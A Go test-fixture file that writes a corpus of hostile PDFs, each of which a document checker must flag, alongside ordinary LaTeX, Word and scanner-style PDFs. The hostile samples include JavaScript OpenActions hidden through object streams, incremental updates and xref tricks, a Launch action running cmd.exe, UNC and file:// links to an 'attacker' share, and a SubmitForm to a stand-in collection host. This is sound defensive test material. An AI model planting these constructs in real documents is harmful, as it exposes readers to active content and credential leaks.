package doccheckfixtures

import (
	"bytes"
	"fmt"
	"image"
	"image/color"
	"sort"
	"strings"
)

// The PDF corpora: ordinary files as common producers write them (they
// must pass), and hostile files (each must fail with one finding that
// names what was found). Both are written from code so that every byte is
// explained; infra tests and the fuzz seeds use the same files.

// HostilePDF is one file of the hostile corpus.
type HostilePDF struct {
	Name string
	Data []byte
	// Code is the one finding's code; Names are what its message must name.
	Code  string
	Names []string
}

const (
	codeActive      = "pdf_active_content"
	codeUnreadable  = "unreadable"
	codeUnscannable = "pdf_unscannable"
)

// doc is a small document writer: catalog 1, page tree 2, font 3, extra
// objects from 20, pages from 100 (page, content).
type doc struct {
	version     string
	catalog     string // extra catalog entries
	page        string // extra entries of the first page
	extra       map[int]string
	pages       int
	inObjStm    bool // catalog and extras in a Flate object stream + xref stream
	stmFilters  []Filter
	trailerNote string
}

// firstPage is the object number of a doc's first page.
const firstPage = 100

func (d doc) build() []byte {
	if d.pages == 0 {
		d.pages = 1
	}
	if d.version == "" {
		d.version = "1.7"
	}
	p := NewPDF(d.version)
	kids := make([]string, d.pages)
	for i := range kids {
		kids[i] = fmt.Sprintf("%d 0 R", firstPage+2*i)
	}
	catalog := "<< /Type /Catalog /Pages 2 0 R " + d.catalog + " >>"
	p.Obj(2, fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>", strings.Join(kids, " "), d.pages))
	p.Obj(3, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
	for i := 0; i < d.pages; i++ {
		extra := ""
		if i == 0 {
			extra = d.page
		}
		p.Obj(firstPage+2*i, fmt.Sprintf("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "+
			"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R %s >>", firstPage+1+2*i, extra))
		p.Stream(firstPage+1+2*i, "/Filter /FlateDecode", pageContent(i+1))
	}
	size := firstPage + 2*d.pages
	extras := make([]int, 0, len(d.extra))
	for n := range d.extra {
		extras = append(extras, n)
		size = max(size, n+1)
	}
	sort.Ints(extras)
	if !d.inObjStm {
		p.Obj(1, catalog)
		for _, n := range extras {
			p.Obj(n, d.extra[n])
		}
		return p.XrefTable(size, "/Root 1 0 R "+d.trailerNote).Bytes()
	}
	objs := map[int]string{1: catalog}
	for n, body := range d.extra {
		objs[n] = body
	}
	filters := d.stmFilters
	if filters == nil {
		filters = []Filter{Flate}
	}
	p.ObjStm(size, objs, filters...)
	return p.XrefStream(size+1, size+2, "/Root 1 0 R "+d.trailerNote).Bytes()
}

// HostilePDFs is the hostile corpus.
func HostilePDFs() []HostilePDF {
	js := "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
	active := func(name string, data []byte, names ...string) HostilePDF {
		return HostilePDF{Name: name, Data: data, Code: codeActive, Names: names}
	}
	link := func(action string) string {
		return "/Annots [<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A " + action + " >>]"
	}
	return []HostilePDF{
		active("openaction-javascript", doc{catalog: "/OpenAction 20 0 R", extra: map[int]string{20: js}}.build(),
			"/OpenAction", "/JavaScript"),
		active("openaction-javascript-objstm-chain", doc{catalog: "/OpenAction 20 0 R", extra: map[int]string{20: js},
			inObjStm: true, stmFilters: []Filter{ASCII85, LZW}}.build(), "/OpenAction", "/JavaScript"),
		active("openaction-javascript-hex-objstm", doc{catalog: "/OpenAction << /S /JavaScript /JS 20 0 R >>",
			extra: map[int]string{20: "(app.alert\\(1\\))"}, inObjStm: true, stmFilters: []Filter{ASCIIHex, FlatePNG(9)}}.build(),
			"/OpenAction", "/JavaScript"),
		active("catalog-inside-stream-data", catalogInsideStreamData(), "/OpenAction", "/JavaScript"),
		active("incremental-update-adds-javascript", incrementalJavaScript(), "/JavaScript"),
		active("hybrid-xrefstm-javascript", hybridJavaScript(), "/JavaScript"),
		active("repaired-xref-javascript", repairedJavaScript(), "/OpenAction", "/JavaScript"),
		active("trailer-inline-root", inlineRoot(), "/OpenAction", "/JavaScript"),
		active("escaped-names", doc{catalog: "/Names << /J#61vaScript 20 0 R >>",
			extra: map[int]string{20: "<< /Names [(init) 21 0 R] >>", 21: "<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"}}.build(),
			"/JavaScript"),
		active("page-additional-actions", doc{page: "/AA << /O << /S /GoTo /D [100 0 R /Fit] >> >>"}.build(), "/AA"),
		active("field-keystroke-javascript", doc{catalog: "/AcroForm << /Fields [20 0 R] >>", extra: map[int]string{
			20: "<< /FT /Tx /T (name) /Rect [0 0 10 10] /AA << /K " + js + " >> >>"}}.build(), "/AA", "/JavaScript"),
		active("launch", doc{page: link("<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>")}.build(), "/Launch"),
		active("gotor-unc", doc{page: link("<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>")}.build(), "/GoToR"),
		active("gotoe", doc{page: link("<< /S /GoToE /T << /R /C /N (x.pdf) >> /D [0 /Fit] >>")}.build(), "/GoToE"),
		active("submitform", doc{catalog: "/AcroForm << /Fields [20 0 R] >>", extra: map[int]string{
			20: "<< /FT /Btn /Ff 65536 /T (send) /Subtype /Widget /Rect [0 0 10 10] " +
				"/A << /S /SubmitForm /F << /FS /URL /F (https://collect.example/x) >> >> >>"}}.build(), "/SubmitForm"),
		active("importdata", doc{page: link("<< /S /ImportData /F (data.fdf) >>")}.build(), "/ImportData"),
		active("richmedia", doc{page: "/Annots [20 0 R]", extra: map[int]string{
			20: "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << /Assets << >> >> >>"}}.build(), "/RichMedia"),
		active("xfa", doc{catalog: "/AcroForm << /Fields [] /XFA 20 0 R >>", extra: map[int]string{20: "[(template) 21 0 R]", 21: "(<xdp/>)"}}.build(), "/XFA"),
		active("embedded-files-name-tree", doc{catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 20 0 R] >> >>", extra: map[int]string{
			20: "<< /Type /Filespec /F (a.exe) /EF << /F 21 0 R >> >>", 21: "<< /Type /EmbeddedFile /Length 0 >>"}}.build(), "/EmbeddedFile"),
		active("ef-without-type", doc{catalog: "/AF [20 0 R]", extra: map[int]string{
			20: "<< /F (a.exe) /EF << /F 21 0 R >> >>", 21: "<< /Length 0 >>"}}.build(), "/EmbeddedFile"),
		active("file-attachment-annotation", doc{page: "/Annots [20 0 R]", extra: map[int]string{
			20: "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (invoice.exe) >>"}}.build(), "/FileAttachment"),
		active("outline-javascript", doc{catalog: "/Outlines 20 0 R", extra: map[int]string{
			20: "<< /Type /Outlines /First 21 0 R /Last 21 0 R /Count 1 >>",
			21: "<< /Title (Open) /Parent 20 0 R /A " + js + " >>"}}.build(), "/JavaScript"),
		active("uri-javascript-scheme", doc{page: link("<< /S /URI /URI (javascript:app.alert\\(1\\)) >>")}.build(), "/JavaScript"),
		active("uri-file-unc", doc{page: link("<< /S /URI /URI (file://attacker/share/x.pdf) >>")}.build(), "/URI file:"),
		active("goto-then-javascript", doc{catalog: "/OpenAction << /S /GoTo /D [100 0 R /Fit] /Next " + js + " >>"}.build(),
			"/OpenAction", "/JavaScript"),
		active("openaction-uri", doc{catalog: "/OpenAction << /S /URI /URI (https://tracker.example/open) >>"}.build(), "/OpenAction"),
		active("rendition", doc{page: link("<< /S /Rendition /OP 0 /AN 100 0 R >>")}.build(), "/Rendition"),
		active("3d-annotation", doc{page: "/Annots [<< /Type /Annot /Subtype /3D /Rect [0 0 10 10] /3DD 20 0 R >>]",
			extra: map[int]string{20: "<< /Type /3D /Subtype /U3D /Length 0 >>"}}.build(), "/3D"),
		active("duplicate-action-type", doc{page: link("<< /S /GoTo /S /Launch /F (cmd.exe) >>")}.build(), "/Launch"),
		{Name: "encrypted", Data: EncryptedPDF(), Code: codeUnreadable, Names: []string{"password"}},
		{Name: "zip-bomb-objstm", Data: zipBombObjStm(), Code: codeUnscannable},
	}
}

// catalogInsideStreamData hides the catalog, with an /OpenAction script,
// inside the data of a content stream: the table points to it there, so a
// reader uses it, while anything skipping stream data never sees it.
func catalogInsideStreamData() []byte {
	p := NewPDF("1.7")
	p.Obj(2, "<< /Type /Pages /Kids [4 0 R] /Count 1 >>")
	p.Obj(3, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
	p.Obj(4, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R >>")
	hidden := "1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\n"
	before := p.Len()
	p.Stream(5, "", []byte("q Q\n"+hidden+"BT ET\n"))
	p.offsets[1] = before + bytes.Index(p.b.Bytes()[before:], []byte("1 0 obj"))
	return p.XrefTable(6, "/Root 1 0 R").Bytes()
}

// incrementalJavaScript is a clean file whose incremental update replaces
// the catalog with one that has a document-level script.
func incrementalJavaScript() []byte {
	p := NewPDF("1.7")
	p.Obj(1, "<< /Type /Catalog /Pages 2 0 R >>")
	p.Obj(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
	p.Obj(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
	p.XrefTable(4, "/Root 1 0 R")
	p.Obj(1, "<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>")
	p.Obj(4, "<< /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >>")
	return p.XrefTable(5, "/Root 1 0 R").Bytes()
}

// hybridJavaScript is a Word-style hybrid file whose script action sits in
// an object stream listed only by the /XRefStm section.
func hybridJavaScript() []byte {
	p := NewPDF("1.7")
	p.Obj(1, "<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(x) 10 0 R] >> >> >>")
	p.Obj(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
	p.Obj(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
	p.ObjStm(11, map[int]string{10: "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}, Flate)
	return p.HybridXref(12, 13, "/Root 1 0 R").Bytes()
}

// repairedJavaScript has a startxref that points nowhere: readers rebuild
// the table from the object headers and find the catalog's script.
func repairedJavaScript() []byte {
	data := doc{catalog: "/OpenAction 20 0 R", extra: map[int]string{20: "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}}.build()
	i := bytes.LastIndex(data, []byte("startxref\n"))
	return append(data[:i:i], "startxref\n999999\n%%EOF\n"...)
}

// inlineRoot puts the catalog straight into the trailer, which readers
// accept.
func inlineRoot() []byte {
	p := NewPDF("1.7")
	p.Obj(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
	p.Obj(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
	return p.XrefTable(4, "/Root << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>").Bytes()
}

// OrdinaryPDFs are files as common producers write them; all must pass.
func OrdinaryPDFs() map[string][]byte {
	return map[string][]byte{
		"latex":        LaTeXPDF(),
		"word":         WordPDF(),
		"scanner":      ScannerPDF(2, 600, 800),
		"print-to-pdf": PDFPages(2),
	}
}

// LaTeXPDF is written as pdfTeX with hyperref writes: PDF 1.5, pages,
// catalog, outlines and annotations in a compressed object stream, a
// cross-reference stream, an /OpenAction destination [page /Fit], internal
// links, a web link, and named destinations.
func LaTeXPDF() []byte {
	p := NewPDF("1.5")
	p.Stream(5, "/Filter /FlateDecode", pageContent(1))
	p.Stream(7, "/Filter /FlateDecode", pageContent(2))
	p.Stream(9, "/Length1 1626 /Length2 9000 /Length3 0 /Filter /FlateDecode", Deflate(bytes.Repeat([]byte("font program "), 500)))
	objs := map[int]string{
		1:  "<< /Type /Catalog /Pages 2 0 R /Outlines 12 0 R /Names 15 0 R /PageMode /UseOutlines /OpenAction [100 0 R /Fit] >>",
		2:  "<< /Type /Pages /Count 2 /Kids [4 0 R 6 0 R] >>",
		3:  "<< /Type /Font /Subtype /Type1 /BaseFont /CMR10 /FontDescriptor 8 0 R /FirstChar 0 /LastChar 127 >>",
		4:  "<< /Type /Page /Contents 5 0 R /Resources 10 0 R /MediaBox [0 0 595.276 841.89] /Parent 2 0 R /Annots [11 0 R 17 0 R] >>",
		6:  "<< /Type /Page /Contents 7 0 R /Resources 10 0 R /MediaBox [0 0 595.276 841.89] /Parent 2 0 R >>",
		8:  "<< /Type /FontDescriptor /FontName /CMR10 /Flags 4 /FontBBox [-40 -250 1009 750] /FontFile 9 0 R >>",
		10: "<< /Font << /F8 3 0 R >> /ProcSet [/PDF /Text] >>",
		11: "<< /Type /Annot /Subtype /Link /Border [0 0 1] /H /I /C [0 1 1] /Rect [71 600 190 612] " +
			"/A << /S /URI /URI (https://www.gsxt.gov.cn/) >> >>",
		12: "<< /Type /Outlines /First 13 0 R /Last 14 0 R /Count -2 >>",
		13: "<< /Title (Section 1) /A << /S /GoTo /D (section.1) >> /Parent 12 0 R /Next 14 0 R >>",
		14: "<< /Title (Section 2) /A << /S /GoTo /D (section.2) >> /Parent 12 0 R /Prev 13 0 R >>",
		15: "<< /Dests 16 0 R >>",
		16: "<< /Names [(section.1) [4 0 R /XYZ 72 769 null] (section.2) [6 0 R /XYZ 72 769 null]] /Limits [(section.1) (section.2)] >>",
		17: "<< /Type /Annot /Subtype /Link /Border [0 0 1] /H /I /C [1 0 0] /Rect [71 580 120 592] /A << /S /GoTo /D (section.2) >> >>",
		18: "<< /Producer (pdfTeX-1.40.25) /Creator (LaTeX with hyperref) /CreationDate (D:20260301120000+08'00') /Trapped /False " +
			"/PTEX.Fullbanner (This is pdfTeX, Version 3.141592653-2.6-1.40.25 \\(TeX Live 2023\\) kpathsea version 6.3.5) >>",
	}
	p.ObjStm(19, objs, Flate)
	return p.XrefStream(20, 21, "/Root 1 0 R /Info 18 0 R /ID [<3f9a64a2c0d8b3b1a1f2e3d4c5b6a798> <3f9a64a2c0d8b3b1a1f2e3d4c5b6a798>]").Bytes()
}

// WordPDF is written as Word's "Save as PDF" writes: PDF 1.7, a hybrid
// cross-reference (a table for old readers plus /XRefStm), a tagged
// structure tree, XMP metadata, a web link, and the structure elements in
// an object stream.
func WordPDF() []byte {
	p := NewPDF("1.7")
	p.Obj(1, "<< /Type /Catalog /Pages 2 0 R /Lang (zh-CN) /StructTreeRoot 10 0 R /MarkInfo << /Marked true >> "+
		"/Metadata 15 0 R /ViewerPreferences 16 0 R >>")
	p.Obj(2, "<< /Type /Pages /Count 1 /Kids [3 0 R] >>")
	p.Obj(3, "<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 5 0 R >> /ExtGState << /GS7 6 0 R >> "+
		"/ProcSet [/PDF /Text /ImageB /ImageC /ImageI] >> /MediaBox [0 0 595.32 841.92] /Contents 4 0 R "+
		"/Group << /Type /Group /S /Transparency /CS /DeviceRGB >> /Tabs /S /StructParents 0 /Annots [7 0 R] >>")
	p.Stream(4, "/Filter /FlateDecode", pageContent(1))
	p.Obj(5, "<< /Type /Font /Subtype /TrueType /Name /F1 /BaseFont /ABCDEE+DengXian /Encoding /WinAnsiEncoding /FirstChar 32 /LastChar 126 >>")
	p.Obj(6, "<< /Type /ExtGState /BM /Normal /ca 1 >>")
	p.Obj(7, "<< /Subtype /Link /Rect [72 700 300 720] /BS << /W 0 >> /F 4 /A << /Type /Action /S /URI /URI (https://www.microcert.example/help) >> /StructParent 1 >>")
	p.Obj(8, "<< /Author (Li Wei) /Creator (Microsoft\\256 Word for Microsoft 365) /CreationDate (D:20260301120000+08'00') "+
		"/Producer (Microsoft\\256 Word for Microsoft 365) >>")
	p.Stream(15, "/Type /Metadata /Subtype /XML", []byte(`<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"/><?xpacket end="w"?>`))
	p.Obj(16, "<< /DisplayDocTitle true >>")
	p.ObjStm(17, map[int]string{
		10: "<< /Type /StructTreeRoot /RoleMap 11 0 R /ParentTree 12 0 R /K [13 0 R] /ParentTreeNextKey 2 >>",
		11: "<< /Footnote /Note /Endnote /Note /Textbox /Sect /Header /Sect /Footer /Sect >>",
		12: "<< /Nums [0 [13 0 R] 1 14 0 R] >>",
		13: "<< /P 10 0 R /S /P /Type /StructElem /K [0 14 0 R] /Pg 3 0 R >>",
		14: "<< /P 13 0 R /S /Link /Type /StructElem /K [<< /Type /OBJR /Obj 7 0 R /Pg 3 0 R >>] /Pg 3 0 R >>",
	}, Flate)
	return p.HybridXref(18, 19, "/Root 1 0 R /Info 8 0 R /ID [<6A2D7C8E4F1B4A5D9C3E2F1A0B9C8D7E> <6A2D7C8E4F1B4A5D9C3E2F1A0B9C8D7E>]").Bytes()
}

// ScannerPDF is written as a scanner writes: PDF 1.4 with one JPEG image
// per page, then an incremental update (a viewer's "save", adding a title
// and a destination to open at), as many scanned files have.
func ScannerPDF(pages, w, h int) []byte {
	img := ScanImage(w, h)
	grey := image.NewGray(img.Bounds())
	for i := range grey.Pix {
		grey.Pix[i] = color.GrayModel.Convert(color.NRGBA{img.Pix[4*i], img.Pix[4*i+1], img.Pix[4*i+2], 255}).(color.Gray).Y
	}
	jpg := EncodeJPEG(grey, 70)
	p := NewPDF("1.4")
	kids := make([]string, pages)
	for i := range kids {
		kids[i] = fmt.Sprintf("%d 0 R", 10+3*i)
	}
	p.Obj(1, "<< /Type /Catalog /Pages 2 0 R >>")
	p.Obj(2, fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>", strings.Join(kids, " "), pages))
	p.Obj(3, "<< /Producer (Canon iR-ADV C5535 PDF) /Creator (Canon iR-ADV C5535) /CreationDate (D:20260301101500+08'00') >>")
	size := 10 + 3*pages
	for i := 0; i < pages; i++ {
		page, im, content := 10+3*i, 11+3*i, 12+3*i
		p.Obj(page, fmt.Sprintf("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im0 %d 0 R >> "+
			"/ProcSet [/PDF /ImageB] >> /Contents %d 0 R >>", im, content))
		p.Stream(im, fmt.Sprintf("/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode", w, h), jpg)
		p.Stream(content, "", []byte("q 595 0 0 842 0 0 cm /Im0 Do Q"))
	}
	for n := 4; n < 10; n++ {
		p.Obj(n, "null")
	}
	p.XrefTable(size, "/Root 1 0 R /Info 3 0 R")
	p.Obj(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction [10 0 R /XYZ null null 0] >>")
	p.Obj(3, "<< /Producer (Canon iR-ADV C5535 PDF; modified using iText 5.5.13) /Title (Business licence) >>")
	return p.XrefTable(size, "/Root 1 0 R /Info 3 0 R").Bytes()
}

// TextPDF is a text document of about size bytes, as a typesetter writes
// a long report: pages of dense text and rules (each content stream about
// 16 KB compressed), an embedded font, a classic cross-reference table.
func TextPDF(size int) []byte {
	p := NewPDF("1.7")
	p.Obj(3, "<< /Type /Font /Subtype /Type1 /BaseFont /NimbusSans /FontDescriptor 4 0 R >>")
	p.Obj(4, "<< /Type /FontDescriptor /FontName /NimbusSans /Flags 32 /FontBBox [-200 -300 1000 900] /FontFile 5 0 R >>")
	rng := uint32(1)
	next := func() uint32 { rng ^= rng << 13; rng ^= rng >> 17; rng ^= rng << 5; return rng }
	font := make([]byte, 256<<10)
	for i := range font {
		font[i] = byte(next())
	}
	p.Stream(5, "/Length1 262144 /Filter /FlateDecode", Deflate(font))
	words := strings.Fields("the enterprise business licence registered capital scope operation legal representative " +
		"address establishment unified social credit code approval date registration authority term")
	var kids []string
	num := 10
	for p.Len() < size {
		var c strings.Builder
		c.WriteString("BT /F1 9 Tf 11 TL 50 800 Td\n")
		for line := 0; line < 70; line++ {
			c.WriteString("(")
			for k := 0; k < 12; k++ {
				c.WriteString(words[next()%uint32(len(words))] + " ")
			}
			c.WriteString(") '\n")
		}
		c.WriteString("ET\n")
		for k := 0; k < 600; k++ {
			fmt.Fprintf(&c, "%d %d m %d %d l S\n", next()%595, next()%842, next()%595, next()%842)
		}
		p.Obj(num, fmt.Sprintf("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>", num+1))
		p.Stream(num+1, "/Filter /FlateDecode", deflate(c.String()))
		kids = append(kids, fmt.Sprintf("%d 0 R", num))
		num += 2
	}
	p.Obj(1, "<< /Type /Catalog /Pages 2 0 R >>")
	p.Obj(2, fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>", strings.Join(kids, " "), len(kids)))
	return p.XrefTable(num, "/Root 1 0 R").Bytes()
}
